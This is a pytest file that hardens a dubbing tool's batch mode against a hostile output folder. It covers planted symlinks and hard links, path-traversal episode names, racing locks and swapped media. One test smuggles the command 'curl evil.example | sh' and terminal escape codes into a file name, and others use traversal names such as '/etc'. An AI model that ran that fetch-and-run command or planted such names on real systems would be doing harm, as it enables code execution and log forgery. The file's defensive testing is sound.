"""`dubkit batch` against a hostile output folder and odd inputs: planted links, episode names
that climb out of -o, control characters in names, racing and stale locks, a recording swapped
for another of the same size and time. A fake engine (no model): milliseconds each."""

from __future__ import annotations

import json
import multiprocessing
import os
import shutil
import socket
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from dubkit.episode import batch as B
from dubkit.errors import DubkitError, OutputError
from tests.test_batch_resume import ALL_RAN, FakeStages, Loader


def _run(stages: FakeStages, episode: B.Episode, out: Path) -> B.EpisodeOutcome:
    B._ENGINES.clear()
    return B.process_episode(Loader(stages), episode, str(out))


@pytest.fixture
def media(tmp_path: Path) -> Path:
    path = tmp_path / "in" / "ep.wav"
    path.parent.mkdir()
    path.write_bytes(b"speech one")
    return path


# ------------------------------------------------------------------------- planted links


@pytest.mark.parametrize("planted", ["ep/.dubkit/batch.log", "ep/.dubkit", "ep"])
def test_a_planted_link_in_the_output_folder_is_never_written_through(
    media: Path, tmp_path: Path, planted: str
) -> None:
    """A link planted where the batch log, the state folder or the episode folder go (a
    shell start-up file, another folder) is refused: nothing is written through it."""
    out = tmp_path / "out"
    victim = tmp_path / "victim"
    victim.mkdir()
    bashrc = victim / ".bashrc"
    bashrc.write_text("# mine\n")
    link = out / planted
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(bashrc if planted.endswith(".log") else victim)
    outcome = _run(FakeStages(), B.Episode("ep", media), out)
    assert outcome.status == "failed"
    assert "link" in (outcome.error or "") and "\n" not in (outcome.error or "")
    assert bashrc.read_text() == "# mine\n"
    assert sorted(p.name for p in victim.iterdir()) == [".bashrc"]


def test_control_characters_in_a_name_never_make_a_line_of_their_own_in_the_log(
    tmp_path: Path,
) -> None:
    planted = "ep\ncurl evil.example | sh\r\x1b[2J"
    media = tmp_path / "in" / f"{planted}.wav"
    media.parent.mkdir()
    media.write_bytes(b"speech")
    outcome = _run(FakeStages(), B.Episode("ep", media), tmp_path / "out")
    assert outcome.status == "done", outcome.error
    log = (tmp_path / "out" / "ep" / ".dubkit" / "batch.log").read_text(encoding="utf-8")
    assert not any(line.startswith("curl") for line in log.splitlines())
    assert "\r" not in log and "\x1b" not in log
    assert "ep\\ncurl evil.example | sh\\r\\x1b[2J.wav" in log  # escaped, still readable


# ------------------------------------------------------------------ names that climb out


@pytest.mark.parametrize("name", ["..", ".", "", "a/../..", "/etc", "ep\x00"])
def test_an_episode_name_that_leaves_the_output_folder_is_refused(
    media: Path, tmp_path: Path, name: str
) -> None:
    out = tmp_path / "sub" / "out"
    out.mkdir(parents=True)
    before = sorted(p.name for p in tmp_path.iterdir())
    outcome = _run(FakeStages(), B.Episode(name, media), out)
    assert outcome.status == "failed"
    assert "episode name" in (outcome.error or "")
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert list(out.iterdir()) == [] and list((tmp_path / "sub").iterdir()) == [out]


def test_dot_and_dot_dot_folders_are_named_after_the_folder_itself(tmp_path: Path) -> None:
    folder = tmp_path / "第一集"
    (folder / "inner").mkdir(parents=True)
    (folder / "programme.mp4").write_bytes(b"x")
    (folder / "programme.srt").write_text("")
    cwd = Path.cwd()
    found = []
    try:
        for inside, given in ((folder / "inner", ".."), (folder, "."), (folder / "inner", "../.")):
            os.chdir(inside)
            found.append(B.discover([Path(given)]))
    finally:
        os.chdir(cwd)
    for episodes, problems in found:
        assert problems == [] and [e.name for e in episodes] == ["第一集"]


def test_a_media_file_whose_stem_is_a_dot_is_refused(tmp_path: Path) -> None:
    dotted = tmp_path / "..wav"
    dotted.write_bytes(b"x")
    episodes, problems = B.discover([dotted])
    assert episodes == []
    assert len(problems) == 1 and "episode name" in problems[0][1]


# ---------------------------------------------------------------------------------- lock


def test_a_lock_naming_a_live_process_that_holds_nothing_is_taken(tmp_path: Path) -> None:
    """pid 1 is alive (on this host), and a lock written on another host (a restarted
    container): neither holds the kernel lock, so neither keeps a batch out for ever."""
    lock = tmp_path / B.LOCK_NAME
    for host in (socket.gethostname(), "old-container"):
        lock.write_text(json.dumps({"pid": 1, "host": host, "started": "yesterday"}))
        with B.BatchLock(tmp_path) as taken:
            assert taken.held
            assert json.loads(lock.read_text())["pid"] == os.getpid()


@pytest.mark.parametrize("kind", ["folder", "link", "huge pid"])
def test_a_strange_lock_is_one_line_or_taken(tmp_path: Path, kind: str) -> None:
    lock = tmp_path / B.LOCK_NAME
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep\n")
    if kind == "folder":
        lock.mkdir()
    elif kind == "link":
        lock.symlink_to(target)
    else:
        lock.write_text(json.dumps({"pid": 10**30, "host": socket.gethostname()}))
    if kind == "huge pid":  # nobody holds it: taken
        with B.BatchLock(tmp_path) as taken:
            assert taken.held
        return
    with pytest.raises(OutputError) as caught:
        B.BatchLock(tmp_path).acquire()
    assert "\n" not in str(caught.value) and str(lock) in str(caught.value)
    assert target.read_text() == "keep\n"


def _contend(folders: list[str], line: Any, go: Any, held: Any) -> None:
    """A batch taking the lock of each folder in turn, at the same moment as the other."""
    for trial, folder in enumerate(folders):
        line.wait(30)  # both batches at the starting line; the last to arrive set `go`
        while time.time() < go.value:  # then both start together, to the microsecond
            pass
        try:
            with B.BatchLock(Path(folder)):
                held.put((trial, "in", time.monotonic()))
                time.sleep(0.02)
                held.put((trial, "out", time.monotonic()))
        except OutputError:
            pass


@pytest.mark.skipif(sys.platform != "linux", reason="fork start method")
def test_two_batches_starting_together_over_a_stale_lock_never_both_hold_it(
    tmp_path: Path,
) -> None:
    """40 trials, each a folder with a stale lock that two batches (processes) start to take
    at once. The same two processes run every trial, lined up by a barrier before each."""
    ctx = multiprocessing.get_context("fork")
    folders = []
    for trial in range(40):
        folder = tmp_path / str(trial)
        folder.mkdir()
        stale = {"pid": 999_999_999, "host": socket.gethostname(), "started": "x"}
        (folder / B.LOCK_NAME).write_text(json.dumps(stale))
        folders.append(str(folder))
    go = ctx.Value("d", 0.0)

    def set_go() -> None:  # run by the last batch to reach the line, before any goes
        go.value = time.time() + 0.002

    line = ctx.Barrier(2, action=set_go)
    held: multiprocessing.Queue = ctx.Queue()  # type: ignore[type-arg]
    procs = [ctx.Process(target=_contend, args=(folders, line, go, held)) for _ in range(2)]
    for p in procs:
        p.start()
    try:
        for p in procs:
            p.join(60)
    finally:
        for p in procs:
            if p.is_alive():  # never left running after a failure
                p.kill()
    assert [p.exitcode for p in procs] == [0, 0]
    events = []
    while not held.empty():
        events.append(held.get())
    assert {trial for trial, kind, _ in events if kind == "in"} == set(range(40))
    for trial in range(40):
        depth = 0
        for _, kind, _ in sorted((e for e in events if e[0] == trial), key=lambda e: e[2]):
            depth += 1 if kind == "in" else -1
            assert depth <= 1, f"trial {trial}: two batches held the lock at once"


# ------------------------------------------------------------------ media swapped in place


def test_another_recording_with_the_same_size_and_time_is_transcribed_again(
    media: Path, tmp_path: Path
) -> None:
    stages = FakeStages()
    out = tmp_path / "out"
    assert _run(stages, B.Episode("ep", media), out).stages == ALL_RAN
    st = media.stat()
    media.write_bytes(b"speech two")  # same length
    os.utime(media, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert media.stat().st_size == st.st_size and media.stat().st_mtime_ns == st.st_mtime_ns
    assert _run(stages, B.Episode("ep", media), out).stages == ALL_RAN


# ------------------------------------------------------------------ workers and clusters

_ORPHAN_SCRIPT = """
import os, sys, time
from pathlib import Path
from typing import Any
from dubkit.episode import batch as B
from tests.test_batch_resume import FakeStages, Loader

class Slow(FakeStages):
    def transcribe(self, media, outdir, progress, glossary):
        with open(sys.argv[2], "a") as pids:
            pids.write(f"{os.getpid()}\\n")
        time.sleep(60)
        return super().transcribe(media, outdir, progress, glossary)

class SlowLoader(Loader):
    def __call__(self):
        return Slow()

if __name__ == "__main__":
    folder = Path(sys.argv[1])
    episodes = [B.Episode(f"ep{n}", folder / f"ep{n}.wav") for n in range(2)]
    B.run_batch(episodes, folder / "out", SlowLoader(Slow()), jobs=2)
"""


@pytest.mark.slow
def test_workers_stop_when_their_batch_is_killed(tmp_path: Path) -> None:
    import signal
    import subprocess

    root = Path(__file__).resolve().parent.parent
    for n in range(2):
        (tmp_path / f"ep{n}.wav").write_bytes(b"speech")
    (tmp_path / "out").mkdir()
    script, pids = tmp_path / "orphans.py", tmp_path / "pids.txt"
    script.write_text(_ORPHAN_SCRIPT, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(root)}
    parent = subprocess.Popen([sys.executable, str(script), str(tmp_path), str(pids)], env=env)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(_lines(pids)) < 2:
        time.sleep(0.05)
    workers = [int(p) for p in _lines(pids)]
    assert len(workers) == 2
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(_alive(p) for p in workers):
        time.sleep(0.05)
    alive = [p for p in workers if _alive(p)]
    for p in alive:
        os.kill(p, signal.SIGKILL)
    assert alive == [], "workers ran on after their batch was killed"


def _lines(path: Path) -> list[str]:
    return path.read_text().split() if path.exists() else []


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:  # a zombie (exited, not yet reaped by init) counts as stopped
        return Path(f"/proc/{pid}/stat").read_text().split(") ")[1][0] != "Z"
    except (OSError, IndexError):
        return False


@pytest.mark.parametrize("address", ["tcp://[::1", "not an address at all"])
def test_a_malformed_scheduler_address_is_one_line(
    media: Path, tmp_path: Path, address: str
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(DubkitError) as caught:
        B.run_batch([B.Episode("ep", media)], out, Loader(FakeStages()), executor="dask",
                    scheduler=address)  # fmt: skip
    assert "--scheduler" in str(caught.value) and "\n" not in str(caught.value)


def test_a_name_that_is_not_utf8_runs_resumes_and_is_reported(tmp_path: Path) -> None:
    """A file name in another encoding (bytes that are no UTF-8, as from an old share)."""
    folder = tmp_path / "in"
    folder.mkdir()
    media = folder / os.fsdecode(b"\xb5\xda\xd2\xbb\xbc\xaf.wav")  # 第一集 in GBK
    media.write_bytes(b"speech")
    out = tmp_path / "out"
    out.mkdir()
    episodes, problems = B.discover([folder])
    assert problems == [] and [e.media for e in episodes] == [media]
    stages = FakeStages()
    for expected in (ALL_RAN, {s: "skipped" for s in ALL_RAN}):
        report = B.run_batch(episodes, out, Loader(stages))
        assert [o.stages for o in report.outcomes] == [expected], report.outcomes[0].error
        doc = json.loads((out / B.REPORT_NAME).read_bytes())
        assert doc["episodes"][0]["name"] == episodes[0].name


# ------------------------------------------------------------- found by a hostile review


@pytest.mark.parametrize("where", ["lock", "log"])
def test_a_hard_link_to_another_file_is_never_written(
    media: Path, tmp_path: Path, where: str
) -> None:
    victim = tmp_path / "important.txt"
    victim.write_text("mine\n")
    out = tmp_path / "out"
    (out / "ep" / ".dubkit").mkdir(parents=True)
    if where == "lock":
        os.link(victim, out / B.LOCK_NAME)
        with pytest.raises(OutputError, match="hard link"):
            B.BatchLock(out).acquire()
    else:
        os.link(victim, out / "ep" / ".dubkit" / "batch.log")
        outcome = _run(FakeStages(), B.Episode("ep", media), out)
        assert outcome.status == "failed" and "hard link" in (outcome.error or "")
    assert victim.read_text() == "mine\n"


@pytest.mark.parametrize("planted", ["fifo", "zero"])
def test_a_manifest_that_is_no_regular_file_is_not_read(
    media: Path, tmp_path: Path, planted: str
) -> None:
    state = tmp_path / "out" / "ep" / ".dubkit"
    state.mkdir(parents=True)
    manifest = state / "manifest.json"
    if planted == "fifo":
        os.mkfifo(manifest)
    else:
        manifest.symlink_to("/dev/zero")
    outcome = _run(FakeStages(), B.Episode("ep", media), tmp_path / "out")
    assert outcome.stages == ALL_RAN  # read as no manifest; written anew in its place
    assert not manifest.is_symlink() and manifest.is_file()


def test_a_sidecar_linked_from_outside_the_episode_folder_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("password\n")
    folder = tmp_path / "in" / "ep"
    folder.mkdir(parents=True)
    (folder / "ep.wav").write_bytes(b"speech")
    (folder / "ep.srt").symlink_to(secret)
    episodes, problems = B.discover([tmp_path / "in"])
    assert episodes == []
    assert len(problems) == 1 and "outside" in problems[0][1]


@pytest.mark.parametrize("stem", [B.REPORT_NAME, B.LOCK_NAME])
def test_an_episode_named_like_the_report_or_the_lock_is_refused(tmp_path: Path, stem: str) -> None:
    media = tmp_path / f"{stem}.wav"
    media.write_bytes(b"x")
    episodes, problems = B.discover([media])
    assert episodes == [] and "episode name" in problems[0][1]


def test_discovery_problems_escape_control_characters(tmp_path: Path) -> None:
    missing = tmp_path / "x\nerror: forged"
    _, problems = B.discover([missing])
    assert "\n" not in problems[0][1] and "x\\nerror: forged" in problems[0][1]


def test_a_lock_removed_and_retaken_by_another_batch_is_not_removed_on_release(
    tmp_path: Path,
) -> None:
    first = B.BatchLock(tmp_path)
    first.acquire()
    os.unlink(tmp_path / B.LOCK_NAME)  # an operator "clears" it while the batch runs
    with B.BatchLock(tmp_path) as second:
        first.release()
        assert (tmp_path / B.LOCK_NAME).exists() and second.held
        with pytest.raises(OutputError, match="another batch"):
            B.BatchLock(tmp_path).acquire()


def test_an_episode_folder_swapped_for_a_link_during_a_stage_fails_the_episode(
    media: Path, tmp_path: Path
) -> None:
    """Someone with write access to -o replaces OUT/EP by a link while transcription runs:
    the episode fails at the next check and no manifest lands in the link's target."""
    victim = tmp_path / "victim"
    victim.mkdir()
    out = tmp_path / "out"

    class Swapping(FakeStages):
        def transcribe(self, media: Path, outdir: Path, progress: Any, glossary: Any) -> Any:
            shutil.move(outdir, tmp_path / "moved")
            outdir.symlink_to(victim)
            return []

    outcome = _run(Swapping(), B.Episode("ep", media), out)
    assert outcome.status == "failed" and "symbolic link" in (outcome.error or "")
    assert not (victim / ".dubkit").exists()


@pytest.mark.parametrize("body", ["[" * 100_000, "[1, 2]", '"text"'])
def test_a_model_manifest_of_any_shape_gives_the_weights_identity(
    tmp_path: Path, body: str
) -> None:
    from dubkit.episode.engine import model_identity

    (tmp_path / "dubkit-model.json").write_text(body, encoding="utf-8")
    (tmp_path / "model.bin").write_bytes(b"weights")
    identity = model_identity("whisper:base", tmp_path)
    assert identity["size"] == 7 and "mtime_ns" in identity
